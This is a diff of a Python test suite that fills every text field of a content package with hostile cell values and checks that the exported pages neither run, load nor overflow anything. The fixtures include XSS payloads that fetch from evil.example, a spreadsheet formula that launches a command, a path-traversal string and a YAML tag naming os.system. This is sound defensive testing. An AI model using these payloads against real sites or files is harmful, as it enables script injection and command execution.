@@ -1,9 +1,12 @@
-"""A cell of a table is text: whatever stands in it, nothing runs, loads or breaks the page."""
+"""A cell that means harm, or merely overflows, is words on every page, whichever cell it is."""
 
 from __future__ import annotations
 
 import csv
 import io
+import json
+import re
+import shutil
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -11,202 +14,326 @@ from typing import Any
 
 import pytest
 
-from ketcontent import assemble, list_documents, with_signoffs, write_content
-from ketcontent.checks import check, findings
+from ketcontent import assemble, check, list_documents, sign_off, with_signoffs
+from ketcontent.charts import balance, coverage, evidence_map, reading_grades
+from ketcontent.checks import falling_due, findings, tally
 from ketcontent.errors import BrokenTables
-from ketcontent.reviews import changes, show
-from ketcontent.schemas import TABLES, read_schemas
-from ketcontent.tables import Content, frame_of, read_content
-from tests.conftest import ROOT
+from ketcontent.exporters import export
+from ketcontent.rendering import english
+from ketcontent.reviews import changes, holdings, lengths, repeats, show, summary
+from ketcontent.schemas import TABLES, shipped_path
+from ketcontent.tables import Content, frame_of, read_content, write_content
+from tests.judging import DAY
 from tests.judging import page as sound_page
 from tests.test_pages import shown
 
-SCHEMAS = read_schemas(ROOT / "data")
-
-RUNS = "window.ran=(window.ran||0)+1"
-HOSTILE = {
-    "a script": f"<script>{RUNS}</script>",
-    "a script that closes ours": f"</script><script>{RUNS}</script>",
-    "an image that fails": f'<img src=x onerror="{RUNS}">',
-    "a picture that loads": f"<svg onload='{RUNS}'><animate onbegin={RUNS}></svg>",
-    "an attribute left": f'" autofocus onfocus="{RUNS}" x="',
-    "an attribute left with one quote": f"' onmouseover='{RUNS}' x='",
-    "a style": "</style><style>*{display:none}</style><style>@import 'https://evil.example/a';",
-    "a frame": f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
-    "a base and a refresh": "<base href=https://evil.example><meta http-equiv=refresh content=0>",
-    "a form": "<form action=https://evil.example><input autofocus><button>Go</button></form>",
-    "a link that runs": f"[so](javascript:{RUNS}) <a href='javascript:{RUNS}'>so</a>",
-    "a link with data": "[so](data:text/html;base64,PHNjcmlwdD4=)",
-    "an image of Markdown": "![dot](https://evil.example/dot.png)",
-    "Jinja": "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}{{ cycler.__init__.__globals__ }}",
-    "the fields of a string": "{name} {0} {number} {day}",
-    "Markdown": "# a\\ *b* **c** `d` | e | [^f] --- > g ~~h~~ $i$ :::j",
-    "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &nbsp; &zwj;",
+CELLS = {
+    "a script": "<script>window.ran = true; alert(1)</script>",
+    "a script from elsewhere": '</title></style><script src="https://evil.example/a.js"></script>',
+    "an event": '<img src="https://evil.example/b.png" onerror="window.ran = true">',
+    "an event of a drawing": '</p></dd></svg><svg onload="window.ran = true"><g></g></svg>',
+    "an attribute left": '" autofocus tabindex="0" onfocus="window.ran = true" x="',
+    "an attribute left by an apostrophe": "' onmouseover='window.ran = true' style='color: red",
+    "an end of data": '</script><script>window.ran = true</script>"}]<!--',
+    "an end of the style": '"; } } @import url(https://evil.example/c.css); </style><b>',
+    "a style": '<p style="background: url(https://evil.example/d.png); width: 900px">wide</p>',
+    "a frame": '<iframe src="https://evil.example"></iframe><base href="https://evil.example/">',
+    "a refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    "a form": '<form action="https://evil.example"><button autofocus>Go</button></form>',
+    "a comment": "<!-- hidden --> <![CDATA[x]]> <?php echo 1 ?> -->",
+    "Jinja": "{{ 7 * 7 }} {% raw %}{% include 'style.css' %} {# gone #} {{ page }}",
+    "fields": "{name} {date} {0} {conflicts} %s ${7*7}",
+    "a link that runs": "[so](javascript:window.ran=true) <javascript:window.ran=true>",
+    "a link of data": "[so](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/png;base64,iVBO=)",
+    "a picture": "![dot](https://evil.example/e.png) [x]: https://evil.example/f.png",
+    "a picture by reference": "![dot][x]",
+    "entities": "&lt;script&gt; &amp;amp; &#60;b&#62; &nbsp; &quot; &copy",
+    "Markdown": "# a ## **b** *c* `d` ~~e~~ | f | - g > h 1. i *** [^j] [ ] ::: $k$ $$l$$",
+    "a fence": "```html <script>window.ran = true</script> ```",
+    "front matter": "--- state: reviewed ---",
+    "YAML": "*a &b !!python/object:os.system {c: d} # e: 'f",
+    "TeX": "$\\frac{1$ \\input{x} $a_",
     "a formula": "=cmd|' /C calc'!A0",
-    "a formula with a sign": "+1+cmd|' /C calc'!A0 -2 @SUM(1+1)",
-    "a long word": "w" * 10_000,
-    "emoji": "👩‍⚕️👨🏿‍🦽🏳️‍🌈" * 40,
-    "combining marks": "Z" + "\u0301\u0302\u0303\u0304" * 200,
-    "a closing comment": "--> ]]> */ }} %} -->",
+    "another formula": '@SUM(1+9)*HYPERLINK("https://evil.example","Go")',
+    "a backslash at the end": "C:\\new\\",
+    "a path": "../../../etc/passwd",
+    "a long word": "W" * 10_000,
+    "long words of a link": "https://example.org/" + "w" * 10_000,
+    "emoji": "👩🏽‍⚕️ 🏳️‍🌈 👨‍👩‍👧‍👦 1️⃣",
+    "marks upon marks": "Z" + "\u0301\u0336\u20dd\u0489" * 60,
+    "marks upon nothing": "\u0301\u0336 a",
+    "words from right to left": "كيتامين (100) ועוד <b>",
+    "spaces that nobody sees": "a\u200bb\u00a0c\u2060d\ufeffe\u00adf",
+    "lines of Unicode": "a\u2028b\u2029c",
 }
-REFUSED = {
-    "a null": "\u0000",
-    "a bell": "\u0007",
-    "an escape": "\u001b[2J",
-    "delete": "\u007f",
-    "a control of the second set": "\u0085",
-    "right to left override": "\u202e",
-    "left to right embedding": "\u202a",
-    "an isolate": "\u2066",
-}
+"""What somebody may put into a cell, by what it tries."""
+
+FREE = "^[^"
+"""How the pattern of a field starts that takes any words."""
+SET = {("waivers", "row"), ("statements", "topics"), ("notices", "needs")}
+"""Fields of words that name something: rows, topics, needs."""
+
+
+def string_fields() -> list[tuple[str, str]]:
+    """Return every field of text of the data package, with its table."""
+    package = json.loads(shipped_path().read_text("utf-8"))
+    return [
+        (table["name"], field["name"])
+        for table in package["resources"]
+        for field in table["schema"]["fields"]
+        if field["type"] == "string"
+    ]
+
+
+def said_in(field: dict[str, Any], cell: str) -> str:
+    """Return what a field can hold of a cell; nothing where it takes no words."""
+    pattern = field["constraints"].get("pattern", "")
+    if field["name"] in ("doi", "url"):
+        start = "10.1000/" if field["name"] == "doi" else "https://example.org/"
+        return start + re.sub(r"\s", "", cell)
+    return cell if pattern.startswith(FREE) else ""
 
 
 def everywhere(cell: str) -> Content:
-    """Return the sound page with one cell in every place that has text of its own."""
-    content = sound_page()
-    people = [
-        {"person": "ada", "name": cell, "credential": cell, "affiliation": cell, "conflicts": cell}
+    """Return a page, signed in full, that has the cell in every field that takes words."""
+    rows = [
+        *({"kind": "risk", "capacity": capacity} for capacity in ("clinical", "editorial")),
     ]
-    terms = [{"term": cell, "language": "en", "expansion": cell, "plain": cell, "definition": cell}]
-    cited = content.statements["text"].str.extract(r"(\[@[^]]+\])$")[0].fillna("")
-    filled = content.statements["text"] != ""
-    return replace(
-        content,
-        documents=content.documents.assign(
-            title=cell, audience=cell, purpose=cell, publisher=cell, funding=cell
-        ),
-        sections=content.sections.assign(heading=cell, number="1."),
-        statements=content.statements.assign(
-            text=(cell + " " + cited).where(filled, ""),
-            label=cell,
-            certainty_reasons=cell,
-            author="ada",
-        ),
-        notices=content.notices.assign(text=cell),
-        sources=content.sources.assign(
-            **dict.fromkeys(
-                ("title", "authors", "container_title", "volume", "issue", "page", "publisher"),
-                cell,
-            ),
-            unconfirmed=cell,
-        ),
-        evidence=content.evidence.assign(finding=cell, locator=cell),
-        help_lines=content.help_lines.assign(contact=cell, hours=cell),
-        people=frame_of("people", people, content),
-        terms=frame_of("terms", terms, content),
-        topics=content.topics.assign(question=cell),
+    content = sound_page(
+        {("evidence", "colds lee-2020"): {"checked_on": "2026-11-01"}},
+        terms={"term": cell, "language": "en"},
+        people={"person": "ada"},
+        rules={"rule": "own", "severity": "error"},
+        waivers={
+            "table": "statements",
+            "row": "zinc/colds",
+            "rule": "mechanism-as-benefit",
+            "until": "2026-12-31",
+        },
     )
+    strings = [{"string": name, "language": "en", "text": cell} for name in sorted(english().texts)]
+    for row in strings:
+        if row["string"] == "months":
+            row["text"] = "|".join([cell.replace("|", "")] * 12)
+    statements = content.statements.assign(
+        kind="risk",
+        supplied_section=content.statements["section"],
+        supplied_block=content.statements["position"],
+        supplied_position=content.statements["position"],
+        supplied_form="item",
+        form="item",
+    )
+    content = replace(
+        content,
+        policies=frame_of("policies", rows, content),
+        strings=frame_of("strings", strings, content),
+        statements=statements,
+        sections=content.sections.assign(supplied_position=content.sections["position"]),
+    )
+    content = filled(content, cell)
+    for statement in content.statements["statement"]:
+        for capacity in ("clinical", "editorial"):
+            content = sign_off(
+                content, "zinc", statement, person="ada", capacity=capacity, signed_on=DAY
+            )
+    return replace(content, signoffs=content.signoffs.assign(comment=cell))
+
+
+def filled(content: Content, cell: str) -> Content:
+    """Return a content with the cell in every field that takes words."""
+    for table, name in string_fields():
+        said = said_in(content.schemas[table].fields[name], cell)
+        if not said or (table, name) in SET or (table == "strings" and name == "text"):
+            continue
+        frame = getattr(content, table).copy()
+        if (table, name) == ("statements", "text"):
+            # A notice has no words of its own; citations stay, so that there are sources.
+            cites = frame[name].str.extract(r"(\[@[^\]]+\])")[0].fillna("")
+            frame[name] = (said + " " + cites).where(frame["notice"] == "", "")
+        else:
+            frame[name] = said
+        content = replace(content, **{table: frame})
+    return content
+
+
+def drawn(content: Content) -> dict[str, list[dict[str, Any]]]:
+    """Return what a notebook shows of a content, by the notebook."""
+    report = check(content, as_of=DAY)
+    found = findings(report, content, "zinc")
+    tables = {
+        "tally": tally(found),
+        "findings": found,
+        "lengths": lengths(content, "zinc"),
+        "dates": falling_due(content, "zinc", as_of=DAY, days=4000),
+        "holdings": holdings(content, "zinc"),
+        "repeats": repeats(content, "zinc"),
+        "changes": changes(content, "zinc"),
+        "evidence": content.evidence,
+        "people": content.people,
+    }
+    charts = (evidence_map, balance, reading_grades, coverage)
+    pages: dict[str, list[Any]] = {
+        "page": [with_signoffs(content, assemble(content, "zinc"))],
+        "archive": [assemble(content, "zinc", edition="supplied")],
+        "section": [with_signoffs(content, assemble(content, "zinc", section="colds"))],
+        "index": [list_documents(content)],
+        "review": [
+            summary(content, "zinc"),
+            *(show(frame, f"{name} {content.documents.loc[0, 'title']}")
+              for name, frame in tables.items()),
+            *(chart(content, "zinc") for chart in charts),
+        ],
+    }  # fmt: skip
+    return {name: [one._repr_mimebundle_() for one in shows] for name, shows in pages.items()}
+
+
+@pytest.fixture(scope="module", params=CELLS.values(), ids=CELLS)
+def cell(request: pytest.FixtureRequest) -> str:
+    """What somebody put into every field."""
+    return str(request.param)
 
 
 @pytest.fixture(scope="module")
-def tab(browser: Any) -> Iterator[Any]:
-    """A tab that may load files of this machine, and writes down what it asks for."""
-    context = browser.new_context(viewport={"width": 320, "height": 640})
-    page = context.new_page()
-    page.asked = []
-    page.on("request", lambda request: page.asked.append(request.url))
-    page.on("dialog", lambda dialog: (page.asked.append(dialog.message), dialog.dismiss()))
-    context.route("http*://**/*", lambda route: route.abort())
-    yield page
+def content(cell: str) -> Content:
+    """The page with the cell in every field."""
+    return everywhere(cell)
+
+
+@pytest.fixture(scope="module")
+def exports(content: Content, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    """The exported pages of that content, by what they are."""
+    folder = tmp_path_factory.mktemp("hostile")
+    return {name: shown(folder, name, *bundles) for name, bundles in drawn(content).items()}
+
+
+@pytest.fixture(scope="module")
+def unguarded(browser: Any) -> Iterator[Any]:
+    """A browser that minds no policy of a page: what is not escaped runs."""
+    context = browser.new_context(viewport={"width": 320, "height": 640}, bypass_csp=True)
+    yield context
     context.close()
 
 
-@pytest.mark.browser
-@pytest.mark.parametrize("kind", HOSTILE)
-def test_a_hostile_cell_in_every_place_runs_loads_and_breaks_nothing(
-    tab: Any, tmp_path: Path, kind: str
+# --- on pages --------------------------------------------------------------------------------
+
+
+def test_every_field_that_takes_words_holds_the_cell(content: Content, cell: str) -> None:
+    for table, name in string_fields():
+        said = said_in(content.schemas[table].fields[name], cell)
+        column = getattr(content, table)[name]
+        assert len(column), table
+        if said and (table, name) not in SET | {("signoffs", "wording")}:
+            assert column.str.contains(said, regex=False).any(), (table, name)
+
+
+def test_tables_with_the_cell_are_written_and_read_back_as_they_were(
+    content: Content, tmp_path: Path
 ) -> None:
-    content = everywhere(HOSTILE[kind])
-    page = with_signoffs(content, assemble(content, "zinc"))
-    found = findings(check(content, ["zinc"]), content, "zinc")
-    drawn: dict[str, list[Any]] = {
-        "page": [page],
-        "section": [with_signoffs(content, assemble(content, "zinc", section="colds"))],
-        "archive": [assemble(content, "zinc", edition="supplied")],
-        "index": [list_documents(content)],
-        "review": [show(found, "Findings"), show(changes(content, "zinc"), "Changes")],
-    }
-    for name, things in drawn.items():
-        path = shown(tmp_path, name, *(one._repr_mimebundle_() for one in things))
-        tab.asked.clear()
-        tab.goto(path.as_uri(), wait_until="load")
-        assert tab.asked == [path.as_uri()], name
-        assert tab.evaluate("window.ran") is None, name
-        assert tab.evaluate("document.scrollingElement.scrollWidth") == 320, name
-        assert tab.evaluate("document.querySelectorAll('main').length") == 1, name
-        assert tab.evaluate("document.querySelectorAll('iframe, form, base').length") == 0, name
-        assert tab.evaluate("getComputedStyle(document.body).display") != "none", name
-    assert tab.evaluate("document.scripts.length") == 0
+    write_content(content, tmp_path / "data")
+    found = read_content(tmp_path / "data")
+    for table in TABLES:
+        assert getattr(found, table).equals(getattr(content, table).sort_values(
+            list(content.schemas[table].key)).reset_index(drop=True)), table  # fmt: skip
 
 
-def folder_of(content: Content, path: Path) -> Path:
-    write_content(content, path)
-    return path
+@pytest.mark.browser
+@pytest.mark.parametrize("name", ["page", "archive", "section", "index", "review"])
+def test_nothing_runs_loads_or_overflows(
+    unguarded: Any, exports: dict[str, Path], cell: str, name: str
+) -> None:
+    asked: list[str] = []
+    dialogs: list[str] = []
+    page = unguarded.new_page()
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.route("http*://**/*", lambda route: route.abort())
+    address = exports[name].as_uri()
+    page.goto(address, wait_until="load")
+    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
+    found = page.evaluate("""() => ({
+        ran: window.ran ?? null,
+        width: document.scrollingElement.scrollWidth,
+        handlers: [...document.querySelectorAll("*")].flatMap(one => [...one.attributes])
+            .filter(one => one.name.startsWith("on")).map(one => one.name),
+        links: [...document.querySelectorAll("[href]:not(use)")]
+            .map(one => new URL(one.getAttribute("href"), document.baseURI).protocol),
+        strange: [...document.querySelectorAll(
+            "script:not([type='application/ld+json']), img, iframe, base, form, link, object, b")]
+            .map(one => one.outerHTML.slice(0, 80)),
+        title: document.querySelector("h1").textContent,
+        named: document.title,
+    })""")
+    page.close()
+    assert (found["ran"], dialogs, asked) == (None, [], [address])
+    assert found["handlers"] == []
+    assert found["strange"] == []
+    assert set(found["links"]) <= {"file:", "https:"}
+    assert cell in found["title"]
+    assert " ".join(cell.split()) in " ".join(found["named"].split())
+    assert found["width"] == 320
 
 
-FIELDS = [
-    (table, name)
-    for table in TABLES
-    for name, field in SCHEMAS[table].fields.items()
-    if field["type"] == "string"
-]
+@pytest.mark.parametrize("name", ["page", "archive", "section", "index"])
+def test_the_front_matter_says_the_cell_and_nothing_else(
+    exports: dict[str, Path], cell: str, name: str
+) -> None:
+    import yaml
+
+    front = export(exports[name].with_suffix(".ipynb"), "markdown").decode().split("\n---\n")[0]
+    said = yaml.safe_load(front.removeprefix("---\n"))
+    assert cell in said["title"]
+    assert said["description"] == cell
+    assert said.get("state") == {"page": "reviewed", "archive": "archive", "section": "reviewed",
+                                 "index": None}[name]  # fmt: skip
+
+
+# --- in tables -------------------------------------------------------------------------------
+
+NOBODY_SEES = ["\0", "\x07", "\x1b", "\x7f", "\x85", *map(chr, range(0x202A, 0x202F)),
+               *map(chr, range(0x2066, 0x206A))]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
-def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A folder of tables with a row in each."""
-    content = everywhere("x")
-    waiver = {"table": "statements", "row": "zinc/harm", "rule": "r", "reason": "x"}
-    rows: dict[str, list[dict[str, Any]]] = {
-        "signoffs": [
-            {"signoff": "s", "document": "zinc", "statement": "harm", "person": "ada"}
-            | {"capacity": "lay", "verdict": "approved", "digest": f"w1:{'0' * 64}"}
-            | {"wording": "x", "signed_on": "2026-11-01", "comment": "x"}
-        ],
-        "policies": [{"kind": "risk", "capacity": "lay"}],
-        "rules": [
-            {"rule": "r", "severity": "error"}
-            | dict.fromkeys(("pattern", "message", "hint", "authority"), "x")
-            | dict.fromkeys(("bad_example", "good_example"), "x")
-        ],
-        "waivers": [{**waiver, "until": "2026-12-31"}],
-        "strings": [{"string": "sources", "language": "en", "text": "x"}],
-    }
-    content = replace(
-        content, **{table: frame_of(table, some, content) for table, some in rows.items()}
-    )
-    return folder_of(content, tmp_path_factory.mktemp("hostile") / "data")
+def sound(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder of tables without faults, each with a row whose every field of words is filled."""
+    folder = tmp_path_factory.mktemp("sound") / "data"
+    write_content(everywhere("words"), folder)
+    return folder
 
 
-@pytest.mark.parametrize(("table", "column"), FIELDS, ids=[".".join(one) for one in FIELDS])
-def test_a_character_that_steers_a_screen_is_refused_with_its_row(
-    folder: Path, table: str, column: str
+@pytest.mark.parametrize(("table", "field"), string_fields())
+def test_a_character_that_nobody_sees_is_refused_in_every_field(
+    sound: Path, tmp_path: Path, table: str, field: str
 ) -> None:
+    folder = Path(shutil.copytree(sound, tmp_path / "data"))
     path = folder / f"{table}.csv"
-    sound = path.read_bytes()
-    rows = list(csv.DictReader(io.StringIO(sound.decode())))
-    assert rows, f"{table} has no row to break"
-    try:
-        for kind, character in REFUSED.items():
-            broken = [dict(rows[0]), *rows[1:]]
-            broken[0][column] = f"x{character}y"
-            text = io.StringIO()
-            writer = csv.DictWriter(text, rows[0].keys(), lineterminator="\n")
-            writer.writeheader()
-            writer.writerows(broken)
-            path.write_text(text.getvalue(), "utf-8", newline="")
-            with pytest.raises(BrokenTables) as refused:
-                read_content(folder)
-            named = [
-                one
-                for one in refused.value.report
-                if (one.table, one.line, one.column) == (table, 2, column)
-                or (one.table, one.column, one.rule) == (table, "", "control-character")
-            ]
-            assert named, (kind, str(refused.value))
-    finally:
-        path.write_bytes(sound)
+    header, *rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
+    place = header.index(field)
+    kept = rows[-1][place]
+    for character in NOBODY_SEES:
+        rows[-1][place] = f"{kept or 'a'}{character}b"
+        out = io.StringIO()
+        csv.writer(out, lineterminator="\n").writerows([header, *rows])
+        path.write_text(out.getvalue(), "utf-8")
+        with pytest.raises(BrokenTables) as raised:
+            read_content(folder)
+        found = [
+            one
+            for one in raised.value.report
+            if (one.file, one.line, one.column) == (str(path), len(rows) + 1, field)
+        ]
+        assert found, (character, str(raised.value.report))
+        assert f"U+{ord(character):04X}" in found[0].message or field_is_listed(table, field)
 
 
-def test_the_folder_is_sound_before_and_after(folder: Path) -> None:
-    assert read_content(folder).documents["title"].tolist() == ["x"]
+def field_is_listed(table: str, field: str) -> bool:
+    """Whether a field takes only the values of a list, so that the fault names those."""
+    package = json.loads(shipped_path().read_text("utf-8"))
+    [found] = [
+        one
+        for resource in package["resources"]
+        if resource["name"] == table
+        for one in resource["schema"]["fields"]
+        if one["name"] == field
+    ]
+    return "enum" in found["constraints"]
